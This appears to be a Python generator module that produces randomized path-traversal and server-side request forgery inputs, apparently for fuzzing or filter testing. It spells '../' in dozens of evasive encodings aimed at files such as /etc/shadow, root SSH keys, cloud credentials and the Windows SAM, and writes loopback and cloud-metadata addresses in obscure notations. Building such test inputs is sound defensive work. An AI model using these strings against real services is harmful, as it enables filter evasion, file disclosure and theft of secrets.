"""Encoded climbs: "../" and the path after it in every spelling that some decoder has turned back."""

import random

from . import lexicon

DOTS = (".", ".", ".", "%2e", "%2E", "%252e", "%25%32%65", "%%32%65", "%u002e", "%uff0e", "%c0%ae", "%c0%2e", "%c0.", "%e0%80%ae", "%e0%40%ae", "%f0%80%80%ae", "%f8%80%80%80%ae", "%fc%80%80%80%80%ae",
        "%25c0%25ae", "0x2e", "\\x2e", "\\u002e", "&#46;", "&#x2e;", "\uff0e", "\u2024", "?", "%3f", "%00.", ".%00", ".%01", "%ae", "%c0%fe", "\\.", "%5c.")
SLASHES = ("/", "/", "/", "\\", "%2f", "%2F", "%5c", "%5C", "%252f", "%255c", "%25252f", "%25%32%66", "%%32%66", "%%35%63", "%u2215", "%u2216", "%uff0f", "%uff3c", "%uEFC8", "%uF025", "%c0%af", "%c1%9c", "%c0%2f", "%c0%5c", "%c1%1c", "%c1%af",
           "%e0%80%af", "%e0%80%9c", "%f0%80%80%af", "%f8%80%80%80%af", "%fc%80%80%80%80%af", "%25c0%25af", "%25c1%259c", "0x2f", "0x5c", "\\x2f", "\\u002f", "&#47;", "&#x2f;", "\uff0f", "\u2215", "%af", "//", "\\\\", "/./", "\\/", "/\\", "%2f%2f", "%5c%5c", "%2f/", ";/", "/;/", "%3b/", "%00/", "%09/", "%0a/", "%20/")
UNIX = ("etc/passwd", "etc/passwd", "etc/passwd", "etc/shadow", "etc/group", "etc/hosts", "etc/issue", "etc/motd", "etc/fstab", "etc/hostname", "etc/crontab", "etc/os-release", "etc/ssh/sshd_config", "etc/mysql/my.cnf", "etc/apache2/apache2.conf", "etc/httpd/conf/httpd.conf", "etc/nginx/nginx.conf", "etc/php.ini", "etc/redis/redis.conf",
        "proc/self/environ", "proc/self/cmdline", "proc/self/maps", "proc/self/fd/{n}", "proc/version", "proc/{n}/cwd", "proc/net/arp", "root/.bash_history", "root/.ssh/id_rsa", "root/.ssh/authorized_keys", "home/{w}/.ssh/id_rsa", "home/{w}/.bash_history", "var/log/auth.log", "var/log/apache2/access.log", "var/log/nginx/error.log", "var/log/httpd/access_log",
        "var/www/html/{w}.php", "var/mail/{w}", "var/lib/mlocate.db", "usr/local/apache2/conf/httpd.conf", "usr/local/etc/php.ini", "opt/{w}/conf/server.xml", "tmp/sess_{w}", "var/run/secrets/kubernetes.io/serviceaccount/token", "boot/grub/grub.cfg", "sys/class/net/eth0/address", "dev/fd/{n}")
WINDOWS = ("windows/win.ini", "windows/win.ini", "boot.ini", "winnt/win.ini", "windows/system.ini", "windows/system32/drivers/etc/hosts", "windows/system32/config/sam", "windows/system32/cmd.exe", "windows/repair/sam", "windows/php.ini", "inetpub/wwwroot/web.config", "inetpub/logs/logfiles", "windows/debug/netsetup.log", "users/administrator/ntuser.dat", "xampp/apache/conf/httpd.conf", "program files/{w}/{w}.ini", "windows/panther/unattend.xml", "autoexec.bat")
APPLICATION = ("WEB-INF/web.xml", "WEB-INF/classes/application.properties", "META-INF/MANIFEST.MF", "web.config", ".env", "config.php", "wp-config.php", ".htpasswd", ".htaccess", ".git/config", ".git/HEAD", ".svn/entries", "config/database.yml", "config/{w}.yml", "appsettings.json", "package.json", "application/config/database.php", "configuration.php", "settings.py", "id_rsa", ".ssh/id_rsa", ".aws/credentials", ".bash_history", "server.key", "secrets.json", "backup.sql", "{w}.bak", "includes/{w}.inc", "storage/logs/laravel.log", "docker-compose.yml", "admin/{w}.php", "cgi-bin/{w}.sh")
UNITS = ("....//", "....\\\\", "..././", "...\\.\\", "....\\/", "..;/", "..;{w}/", "..%00/", "..%0d/", "..%ff/", ".../.../", "..|", "..\\\\", "..//", "./../", ".\\..\\", "/..", "/%2e%2e", "..%5c..%2f", "{w}/../", "{w}/../../", "..::$index_allocation/", "%2e%2e//", ".%2e/", "%2e./", "..%20/", "..?/", "..#/", "..%c0%af..\\", "\\..", "///..///", "../%00", ".%252e/", "..%u2216", ".?/.?/", "?./?./")


def fill(text, rng):
    return text.replace("{n}", str(rng.randint(0, 40))).replace("{w}", lexicon.word(rng))


def separate(path, slash, rng):
    """The file's own slashes, mostly in the same spelling."""
    return path.replace("/", slash) if rng.random() < 0.75 else path


def climb(rng: random.Random):
    """A run of parent steps and a file they lead to."""
    draw = rng.random()
    file = fill(rng.choice(rng.choices((UNIX, WINDOWS, APPLICATION), (6, 3, 3))[0]), rng)
    if rng.random() < 0.04:
        file = file.upper() if rng.random() < 0.5 else "".join(c.upper() if rng.random() < 0.5 else c for c in file)
    count = rng.randint(3, 12) if rng.random() < 0.8 or file[:3] not in ("etc", "win", "boo", "pro") else rng.randint(1, 2)
    if draw < 0.3:
        unit, slash = rng.choice((("../", "/"), ("..\\", "\\"), ("..%2f", "%2f"), ("%2e%2e/", "/"), ("%2e%2e%2f", "%2f"), ("..%5c", "%5c"), ("..%252f", "%252f"), ("%252e%252e%252f", "%252f"), ("..%c0%af", "%c0%af"))), "/"
        unit, slash = unit
    elif draw < 0.5:
        unit, slash = fill(rng.choice(UNITS), rng), "/"
    elif draw < 0.56:  # another spelling at every step
        steps = "".join(rng.choice(DOTS) + rng.choice(DOTS) + rng.choice(SLASHES) for _ in range(count))
        return steps + file
    elif draw < 0.62:  # separators of dots and a literal slash nobody decodes
        one = rng.choice(("?", "%3f", ".", "%ae", "%c0%ae"))
        slash = rng.choice(("%bg%qf", "%c0%9v", "%c0%qf", "%c1%8s", "%c1%pc")) if rng.random() < 0.5 else "%" + rng.choice("bcdef") + rng.choice("0123456789ghqxz") + "%" + rng.choice("0123456789abcq") + rng.choice("0123456789fqsvz")
        return (one + one + slash) * count + separate(file, slash, rng)
    else:
        one = rng.choice(DOTS)
        two = one if rng.random() < 0.75 else rng.choice(DOTS)
        slash = rng.choice(SLASHES)
        unit = one + two + slash
    return unit * count + separate(file, slash, rng)


def absolute(rng):
    """An absolute path that no client has reason to name."""
    file = fill(rng.choice(UNIX), rng)
    windows = fill(rng.choice(WINDOWS), rng)
    slash = rng.choice(SLASHES)
    return rng.choice(("/" + file, "/" + file, "//" + file, slash + separate(file, slash, rng), "/./" + file.replace("/", "/./"), "C:\\" + windows.replace("/", "\\"), "c:/" + windows, "\\\\?\\C:\\" + windows.replace("/", "\\"), "\\\\localhost\\c$\\" + windows.replace("/", "\\"), "\\\\127.0.0.1\\c$\\" + windows,
                       "/%2e/" + file, "/var/www/html/../../../" + file, "/" + file.replace("/", "//"), "%2f" + file.replace("/", "%2f"), "/proc/self/root/" + file, "/dev/fd/../../" + file, "/etc/./passwd", "C%3A%5C" + windows.replace("/", "%5C"), "~root/" + APPLICATION[rng.randrange(len(APPLICATION))].replace("{w}", "x"), "/cygdrive/c/" + windows))


FORMS = ("decimal", "hex", "octal", "mixed", "short", "zeros", "mapped", "mapped", "wrapped", "digits", "dots", "escaped", "overflow", "sixtofour", "plain")
LOOPS = ("127.0.0.1", "127.0.0.1", "127.0.0.1", "0.0.0.0", "127.{b}.{b}.{b}", "127.0.0.{b}", "127.1.1.1", "127.0.1.1")


def spelled(address, rng):
    """An IPv4 address in a notation of inet_aton, of RFC 4291 or of a lenient URL parser."""
    octets = [int(part) for part in address.split(".")]
    whole = int.from_bytes(bytes(octets), "big")
    form = rng.choice(FORMS)
    if form == "decimal":
        return str(whole + (2 ** 32 * rng.randint(1, 4) if rng.random() < 0.15 else 0))
    if form == "hex":
        return rng.choice((f"0x{whole:08x}", f"0X{whole:08X}", f"0x{whole:x}", f"0x{rng.randint(1, 255):x}{whole:08x}", ".".join(f"0x{part:02x}" for part in octets), ".".join(f"0x{part:x}" for part in octets), f"{whole:#x}".upper().replace("X", "x")))
    if form == "octal":
        return rng.choice((f"0{whole:o}", f"{whole:012o}", f"000{whole:o}", ".".join(f"0{part:o}" for part in octets), ".".join(f"{part:04o}" for part in octets), ".".join(f"{part:07o}" for part in octets)))
    if form == "mixed":
        return ".".join(rng.choice((f"{part}", f"0x{part:x}", f"0x{part:02X}", f"0{part:o}", f"000{part:o}")) for part in octets)
    if form == "short":
        head = rng.choice((1, 2))
        tail = int.from_bytes(bytes(octets[head:]), "big")
        return ".".join(rng.choice((f"{part}", f"{part}", f"0x{part:x}", f"0{part:o}")) for part in [*octets[:head], tail])
    if form == "zeros":
        return ".".join(f"{part:03d}" for part in octets) if max(octets) > 99 and rng.random() < 0.5 else ".".join("0" * rng.randint(0, 3) + f"{part}" for part in octets)
    first, second = whole >> 16, whole & 0xFFFF
    if form == "mapped":
        return rng.choice((f"[::ffff:{address}]", f"[::ffff:{first:x}:{second:x}]", f"[::FFFF:{first:04X}:{second:04X}]", f"[0:0:0:0:0:ffff:{address}]", f"[0000:0000:0000:0000:0000:ffff:{first:04x}:{second:04x}]", f"[::{address}]", f"[::{first:x}:{second:x}]", f"[::ffff:0:{address}]"))
    if form == "sixtofour":
        return rng.choice((f"[64:ff9b::{address}]", f"[64:ff9b::{first:x}:{second:x}]", f"[2002:{first:04x}:{second:04x}::]", f"[2002:{first:x}:{second:x}::1]", f"[2001:0:{first:x}:{second:x}::{rng.randint(1, 9999)}]"))
    if form == "wrapped":
        return rng.choice(("[::1]", "[::]", "[0:0:0:0:0:0:0:1]", "[0000::1]", "[::0001]", "[0:0::1]", "[::1%25lo]", "[::1%25eth0]", "[fe80::1%25eth0]", f"[fe80::{rng.randint(1, 65535):x}]", f"[fd{rng.randint(0, 255):02x}:{rng.randint(0, 65535):x}::{rng.randint(1, 99)}]", f"[fc00::{rng.randint(1, 65535):x}]", "[ff02::1]", "[::00]", "[0:0:0:0:0:0:0:0]", "0", "127.1", "127.0.1", "0.0", "00000", "0x0", "0x0.0x0"))
    if form == "digits":
        start = rng.choice((0xFF10, 0x1D7CE, 0x1D7D8, 0x1D7E2, 0x1D7EC, 0x1D7F6, 0x2460 - 1))
        return "".join(chr(start + int(char)) if char.isdigit() and (char != "0" or start != 0x245F) else "\u24ea" if char == "0" else rng.choice((".", "\u3002")) for char in address)
    if form == "dots":
        return address.replace(".", rng.choice(("\u3002", "\uff0e", "\uff61", "%E3%80%82", "%EF%BC%8E", "%2e", "%252e")))
    if form == "escaped":
        return rng.choice((lexicon.urlall(address, rng), lexicon.urlall(lexicon.urlall(address, rng), rng), lexicon.urlall("localhost", rng), "".join(f"%{ord(char):02x}" if rng.random() < 0.4 else char for char in rng.choice((address, "localhost")))))
    if form == "overflow":
        return ".".join(str(part + 256 * rng.randint(1, 3)) if rng.random() < 0.6 else str(part) for part in octets)
    return address + rng.choice(("", ".", ""))


def inner(rng):
    """A loopback or private address in any notation."""
    address = rng.choice(LOOPS).split(".") if rng.random() < 0.6 else lexicon.private(rng).split(".")
    return spelled(".".join(str(rng.randint(1, 254)) if part == "{b}" else part for part in address), rng)


def innercloud(rng):
    """The address of a cloud's metadata service in any notation."""
    return spelled(rng.choice(("169.254.169.254",) * 6 + ("100.100.100.200", "192.0.0.192", "169.254.170.2", "168.63.129.16")), rng)
